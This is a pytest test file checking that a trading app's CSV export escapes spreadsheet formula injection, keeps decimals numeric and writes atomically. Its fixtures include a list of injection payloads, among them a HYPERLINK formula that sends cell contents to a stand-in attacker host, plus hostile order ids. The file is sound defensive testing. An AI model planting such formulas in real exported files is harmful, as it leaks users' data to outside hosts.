"""CSV export: formula cells escaped (OWASP), plain decimals kept numeric, read back with the csv module."""

from __future__ import annotations

import csv
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal as D
from pathlib import Path

import pytest

from hexdesk.engine.enums import OrderStatus, Side
from hexdesk.engine.events import AccountOpened, OrderAccepted, OrderFilled
from hexdesk.storage.export import (
    cell,
    escape_formula,
    export_dataclasses_csv,
    export_trades_csv,
    unescape_formula,
    write_csv,
)
from hexdesk.storage.journal import Journal
from tests.storage.samples import SYMBOL, T0, fill, order

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "=1",
    "+1",  # a spreadsheet would evaluate it; our own numbers never carry a "+", so it is text
    "-1E5",  # exponent notation is not how we write numbers: treated as text
    "-",
    "--1",
    "-1.",
    "-.5",
]


def _read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_cells_get_a_leading_quote_and_read_back_as_written(text: str, tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_csv(path, ["value"], [[text]])
    rows = _read(path)
    assert rows == [["value"], ["'" + text]]  # tab / CR survive inside the quoted cell
    assert unescape_formula(rows[1][0]) == text


@pytest.mark.parametrize("number", ["-12.5", "-0", "0", "12", "0.00000001", "-84000.10", "123456789012345678.9"])
def test_plain_decimal_numbers_are_not_escaped(number: str) -> None:
    assert escape_formula(number) == number
    assert unescape_formula(number) == number


@pytest.mark.parametrize("text", ["BTCUSDT", "", "hello = world", "a-b", "'=already", " =1", "1+1"])
def test_harmless_text_is_unchanged(text: str) -> None:
    # only the FIRST character matters to a spreadsheet; " =1" starts with a space
    assert escape_formula(text) == text


def test_cell_formats_values_exactly() -> None:
    assert cell(D("1E-8")) == "0.00000001"
    assert cell(D("-12.50")) == "-12.50"  # negative Decimal stays a number
    assert cell(D("-1.5E+3")) == "-1500"
    assert cell(None) == "" and cell(True) == "true" and cell(False) == "false"
    assert cell(Side.SELL) == "SELL"
    assert cell(datetime(2025, 3, 1, 12, 30, tzinfo=UTC)) == "2025-03-01T12:30:00+00:00"
    assert cell(timedelta(minutes=90, seconds=1.5)) == "5401.5"
    assert cell(("breakout", "=cmd")) == "breakout;=cmd"  # the joined text starts with "b": harmless
    assert cell(("=cmd", "x")) == "'=cmd;x"
    assert cell(-3) == "-3"


def test_write_is_atomic_and_leaves_no_part_file(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("old\n")

    def rows():  # fails half-way: the old file stays whole
        yield [1]
        raise RuntimeError("disk gone")

    with pytest.raises(RuntimeError):
        write_csv(path, ["n"], rows())
    assert path.read_text() == "old\n"
    assert not list(tmp_path.glob("*.part"))


@dataclass(frozen=True)
class _Trade:  # stands in for storage.trades.Trade: the export only looks at dataclass fields
    trade_key: str
    symbol: str
    side: Side
    net_pnl: D
    r_multiple: D | None
    tags: tuple[str, ...]
    opened_at: datetime


def test_export_trades_is_generic_over_dataclass_fields(tmp_path: Path) -> None:
    t0 = datetime(2025, 3, 1, tzinfo=UTC)
    trades = [
        _Trade("BTCUSDT:1", "BTCUSDT", Side.BUY, D("-12.5"), None, ("breakout",), t0),
        _Trade("BTCUSDT:7", "=EVIL()", Side.SELL, D("30.25"), D("1.5"), ("@tag", "x"), t0 + timedelta(hours=1)),
    ]
    path = tmp_path / "trades.csv"
    assert export_trades_csv(trades, path) == 2
    rows = list(csv.DictReader(path.open(newline="", encoding="utf-8")))
    assert list(rows[0]) == ["trade_key", "symbol", "side", "net_pnl", "r_multiple", "tags", "opened_at"]
    assert rows[0]["net_pnl"] == "-12.5" and rows[0]["r_multiple"] == "" and rows[0]["side"] == "BUY"
    assert rows[1]["symbol"] == "'=EVIL()" and rows[1]["tags"] == "'@tag;x"
    assert rows[1]["opened_at"] == "2025-03-01T01:00:00+00:00"


def test_export_of_nothing_writes_the_header_of_the_given_type(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    assert export_trades_csv([], path, row_type=_Trade) == 0
    assert _read(path) == [["trade_key", "symbol", "side", "net_pnl", "r_multiple", "tags", "opened_at"]]
    with pytest.raises(TypeError):
        export_dataclasses_csv([object()], path)


def test_journal_fills_and_orders_export_escapes_hostile_text(tmp_path: Path) -> None:
    """A client order id is free text a user (or a hostile file) chose: it must not run in a spreadsheet."""
    j = Journal.in_memory()
    sid = j.start_session("s", "replay", "BTCUSDT-2025-03", D("10000"))
    hostile = order(1, client_order_id='=HYPERLINK("http://x")')
    done = hostile.evolve(status=OrderStatus.FILLED, executed_qty=D("0.010"), avg_price=D("84000.10"))
    j.record(sid, [
        AccountOpened(1, T0, D("10000")),
        OrderAccepted(2, T0, hostile),
        OrderFilled(3, T0 + 1, done, fill(1, 1, side=Side.SELL, realized_pnl=D("-12.5"))),
    ])
    assert j.export_csv(sid, "orders", tmp_path / "o.csv") == 1
    (o,) = csv.DictReader((tmp_path / "o.csv").open(newline="", encoding="utf-8"))
    assert o["client_order_id"] == "'=HYPERLINK(\"http://x\")" and o["symbol"] == SYMBOL
    j.export_csv(sid, "fills", tmp_path / "f.csv")
    (f,) = csv.DictReader((tmp_path / "f.csv").open(newline="", encoding="utf-8"))
    assert f["realized_pnl"] == "-12.5"  # numeric, not quoted
    j.close()
